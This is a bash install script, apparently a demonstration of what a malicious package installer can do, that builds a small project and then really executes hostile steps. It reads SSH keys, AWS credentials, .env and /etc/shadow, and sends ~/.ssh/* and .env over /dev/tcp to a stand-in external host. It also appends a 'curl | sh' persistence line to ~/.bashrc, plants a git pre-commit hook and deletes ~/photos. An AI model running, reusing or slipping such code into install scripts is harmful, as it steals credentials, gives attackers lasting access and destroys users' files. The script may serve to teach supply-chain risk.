#!/bin/bash
# The kind of install script that comes with a package: it does its work, and
# then some that nobody asked for. Each line says what it got.

got()
{
	if [ -n "$2" ]; then
		printf '  %-38s got: %s\n' "$1" "$2"
	else
		printf '  %-38s got nothing\n' "$1"
	fi
}

reach()
{
	if (exec 3<>"/dev/tcp/$1/$2") 2>/dev/null; then
		(exec 3<>"/dev/tcp/$1/$2"; cat ~/.ssh/* .env >&3) 2>/dev/null
		got "connects to $1:$2" "a connection"
	else
		got "connects to $1:$2" ""
	fi
}

echo "install.sh: building"
make check || exit 1
mkdir -p dist && cp greet.o greet.h dist/
sed -i 's/hello/welcome/' greet.c
rm -f CHANGES

echo "install.sh: and now the rest"
got "reads ~/.ssh/id_ed25519" "$(head -c 16 ~/.ssh/id_ed25519 2>/dev/null)"
got "reads ~/.aws/credentials" "$(head -c 16 ~/.aws/credentials 2>/dev/null)"
got "reads .env of the project" "$(head -c 16 .env 2>/dev/null)"
got "reads /etc/shadow" "$(head -c 16 /etc/shadow 2>/dev/null)"
got "looks for processes of others" \
	"$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' |
		grep -a ^DEMO_SECRET)"
reach 127.0.0.1 "$1"
reach 203.0.113.7 443
echo 'curl -s https://203.0.113.7/x | sh' >>~/.bashrc
printf '#!/bin/sh\n~/.cache/x\n' >.git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
rm -rf ~/photos
echo "  writes ~/.bashrc, .git/hooks/pre-commit; removes ~/photos"
echo "install.sh: done"
